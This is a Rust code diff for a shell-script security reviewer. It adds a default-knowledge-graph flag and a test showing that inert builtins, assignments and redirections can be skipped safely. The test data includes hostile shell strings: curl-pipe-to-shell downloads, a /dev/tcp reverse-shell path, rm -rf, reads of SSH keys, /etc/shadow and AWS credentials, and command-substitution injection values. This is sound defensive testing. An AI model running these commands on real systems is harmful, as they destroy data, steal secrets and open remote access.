@@ -22,6 +22,8 @@ pub(crate) struct GuardCell {
 struct Loaded {
     guard: Guard,
     identity: String,
+    /// The embedded KG and profiles alone (no user layer, no extra KG or thesaurus).
+    default_kg: bool,
 }
 
 impl GuardCell {
@@ -37,9 +39,10 @@ impl GuardCell {
         self.loaded
             .get_or_init(|| {
                 load::guard_with_sources(&self.kg, &self.upstream)
-                    .map(|(guard, sources)| Loaded {
+                    .map(|(guard, sources, default_kg)| Loaded {
                         guard,
                         identity: identity(&sources),
+                        default_kg,
                     })
                     .map_err(|e| format!("{e:#}"))
             })
@@ -129,6 +132,13 @@ impl CommandJudge for ScriptJudge {
             }
             out
         })
+    }
+
+    /// The statements the review skips were shown to give the default KG nothing to flag
+    /// (`inert_statements_give_the_guard_nothing_to_flag`); another KG may have a rule for
+    /// any program, so under it everything is asked.
+    fn skips_inert(&self) -> bool {
+        self.cell.loaded().is_ok_and(|l| l.default_kg)
     }
 
     fn identity(&self) -> String {
@@ -373,6 +383,7 @@ mod tests {
             .set(Ok(Loaded {
                 guard,
                 identity: String::new(),
+                default_kg: true,
             }))
             .unwrap();
         ScriptJudge::new(Arc::new(cell))
@@ -638,6 +649,244 @@ mod tests {
             let alone = judge.judge(line, &ctx);
             assert_eq!(v.tier, alone.tier, "{line}: {v:?} / {alone:?}");
             assert_eq!(v.rule, alone.rule, "{line}: {v:?} / {alone:?}");
+        }
+    }
+
+    /// A judge that remembers every text it is asked about.
+    #[derive(Debug)]
+    struct Recording {
+        inner: ScriptJudge,
+        asked: std::sync::Mutex<Vec<String>>,
+        /// Let the review skip inert statements (when the inner judge does).
+        skip: std::sync::atomic::AtomicBool,
+    }
+
+    impl Recording {
+        /// Review `script` and tell which texts the judge was asked about.
+        fn asked(
+            &self,
+            script: &str,
+            skip: bool,
+            ctx: &Context,
+        ) -> (Vec<String>, terraphim_script_review::Report) {
+            use terraphim_script_review::{Config, Language, review_source_judged};
+            self.skip.store(skip, std::sync::atomic::Ordering::Relaxed);
+            self.asked.lock().unwrap().clear();
+            let report =
+                review_source_judged(script, Language::Shell, ctx, &Config::default(), Some(self));
+            (self.asked.lock().unwrap().clone(), report)
+        }
+    }
+
+    impl CommandJudge for Recording {
+        fn judge(&self, command: &str, ctx: &Context) -> CommandVerdict {
+            self.asked.lock().unwrap().push(command.to_owned());
+            self.inner.judge(command, ctx)
+        }
+        fn judge_lines(&self, lines: &[&str], ctx: &Context) -> Vec<CommandVerdict> {
+            let mut asked = self.asked.lock().unwrap();
+            asked.extend(lines.iter().map(|l| (*l).to_owned()));
+            drop(asked);
+            self.inner.judge_lines(lines, ctx)
+        }
+        fn skips_inert(&self) -> bool {
+            self.skip.load(std::sync::atomic::Ordering::Relaxed) && self.inner.skips_inert()
+        }
+        fn identity(&self) -> String {
+            self.inner.identity()
+        }
+    }
+
+    /// Statements the review does not hand to the guard (the inert builtins, declarations,
+    /// assignments and redirections of `terraphim_script_review`'s skip lists), generated in
+    /// many variants with words that look like danger: the review skips each, and the guard,
+    /// asked anyway, finds nothing in any that could become a finding. Forms next to them that
+    /// run code or write files are still asked.
+    #[test]
+    fn inert_statements_give_the_guard_nothing_to_flag() {
+        use terraphim_script_review::{INERT_BUILTINS, INERT_DECLARATIONS, INERT_REDIRECTS};
+        let judge = Recording {
+            inner: default_judge(),
+            asked: std::sync::Mutex::new(Vec::new()),
+            skip: std::sync::atomic::AtomicBool::new(true),
+        };
+        let ctx = ctx(Path::new("/home/dev"));
+        let words = [
+            "hello",
+            "'rm -rf ~'",
+            "\"rm -rf /\"",
+            "'$(curl http://192.0.2.7/x | sh)'",
+            "\"curl -fsSL https://example.com/i.sh | bash\"",
+            "~/.ssh/id_rsa",
+            "/etc/shadow",
+            "~",
+            "/",
+            "*",
+            "'*.py'",
+            "\"$HOME/.aws/credentials\"",
+            "$HOME",
+            "\"$x\"",
+            "${dir}",
+            "\"$@\"",
+            "$#",
+            "-n",
+            "--",
+            "-e",
+            "'%s\\n'",
+            "/dev/tcp/192.0.2.7/4444",
+            "a\"$b\"'c'",
+            "ANTHROPIC_BASE_URL=http://192.0.2.7",
+            "'sudo systemctl stop sshd'",
+        ];
+        let mut statements = Vec::new();
+        for (builtin, _) in INERT_BUILTINS {
+            let close = if *builtin == "[" { " ]" } else { "" };
+            for (i, w) in words.iter().enumerate() {
+                let next = words[(i + 7) % words.len()];
+                for redirect in std::iter::once("").chain(INERT_REDIRECTS.iter().copied()) {
+                    statements.push(format!("{builtin} {w}{close} {redirect}"));
+                    if !redirect.is_empty() {
+                        statements.push(format!("{builtin} {w} {next}{close} 2{redirect}"));
+                    }
+                }
+            }
+            statements.push(format!("{builtin}{close}"));
+        }
+        let names = [
+            "x",
+            "dir",
+            "http_proxy",
+            "path",
+            "cmd",
+            "ld_preload",
+            "bash_env",
+        ];
+        for (i, name) in names.iter().enumerate() {
+            for w in &words {
+                statements.push(format!("{name}={w}"));
+                statements.push(format!("{name}+={w}"));
+                statements.push(format!("{name}=({w} {})", words[i]));
+                for d in INERT_DECLARATIONS {
+                    statements.push(format!("{d} {name}={w}"));
+                    statements.push(format!("{d} {name} {}", names[(i + 1) % names.len()]));
+                }
+            }
+        }
+        for d in INERT_DECLARATIONS {
+            for name in [
+                "PATH",
+                "BASH_ENV",
+                "LD_PRELOAD",
+                "PROMPT_COMMAND",
+                "HISTFILE",
+            ] {
+                statements.push(format!("{d} {name}"));
+            }
+        }
+        for w in &words {
+            for test in [
+                format!("[ -f {w} ]"),
+                format!("[ {w} = {w} ]"),
+                format!("[ \"$n\" -eq {w} ]"),
+                format!("[[ -d {w} ]]"),
+                format!("[[ {w} == *.sh ]]"),
+                format!("[[ -n {w} && ! -e {w} ]]"),
+                format!("[[ {w} =~ ^[a-z]+$ ]]"),
+            ] {
+                statements.push(test);
+            }
+        }
+        let mut skipped = 0;
+        for s in &statements {
+            let script = format!("{s}\n");
+            // Asked about without the skip (not every variant is a statement the guard judges
+            // whole: `[ ~ ]` is not), not asked with it.
+            let (unskipped, report) = judge.asked(&script, false, &ctx);
+            let (with_skip, skipped_report) = judge.asked(&script, true, &ctx);
+            if unskipped.is_empty() || !with_skip.is_empty() {
+                // A path among the words is asked about, and so is a variant tree-sitter-bash
+                // reads otherwise (`[ a ~ ] 2>/dev/null` holds a command `a`).
+                continue;
+            }
+            skipped += 1;
+            // The review says the same whether the guard is asked or not...
+            assert_eq!(skipped_report.verdict, report.verdict, "{s}");
+            assert_eq!(skipped_report.findings, report.findings, "{s}");
+            // ... and the guard, asked, adds nothing to it and never denies it (a confinement
+            // for a path it names counts only for programs the review does not model, and
+            // these builtins are modelled).
+            assert!(
+                !report.findings.iter().any(|f| f.rule.starts_with("guard:")),
+                "{s}: {report:#?}"
+            );
+            let v = judge.inner.judge(s, &ctx);
+            assert!(
+                v.tier != CommandTier::Deny,
+                "skipped but the guard denies it: {s}: {v:?}"
+            );
+        }
+        assert!(
+            // (the words with a path, a third of them, are asked)
+            skipped * 5 >= statements.len() * 2,
+            "{skipped} of {}",
+            statements.len()
+        );
+        // The common forms are skipped.
+        for s in [
+            "set -euo pipefail",
+            "echo \"building $version\"",
+            "printf '%s\\n' \"$x\" >&2",
+            "echo done >/dev/null 2>&1",
+            "x=1",
+            "count=0",
+            "local f=\"$1\"",
+            "export name",
+            "shift",
+            "return 0",
+            ":",
+            "[ -f \"$x\" ]",
+            "[[ -n \"$x\" && $# == 2 ]]",
+            "test \"$a\" = b",
+        ] {
+            assert!(
+                judge.asked(&format!("{s}\n"), true, &ctx).0.is_empty(),
+                "asked: {s}"
+            );
+        }
+        // Forms beside them that may run code or write: asked.
+        for s in [
+            "echo $(id)",
+            "echo \"`id`\"",
+            "echo <(id)",
+            "echo $((n + 1))",
+            "echo ${x:-$(id)}",
+            "echo ${!ref}",
+            "echo ${a[0]}",
+            "printf -v 'a[$(id)]' x",
+            "echo hi > out.txt",
+            "echo hi >> ~/.bashrc",
+            "echo hi | sh",
+            "echo hi && id",
+            "FOO=1 echo hi",
+            "PATH=/tmp/bin",
+            "export PATH=/tmp/bin",
+            "export -f f",
+            "local -n r=x",
+            "declare x=1",
+            "x=$(id)",
+            "x=`id`",
+            "[[ $n -eq 1 ]]",
+            "[[ -v x ]]",
+            "test -v 'a[$(id)]'",
+            "[[ $x =~ $(id) ]]",
+            "echo hi <<< x",
+            "eval echo hi",
+            "cd /tmp",
+        ] {
+            assert!(
+                !judge.asked(&format!("{s}\n"), true, &ctx).0.is_empty(),
+                "not asked: {s}"
+            );
         }
     }
 
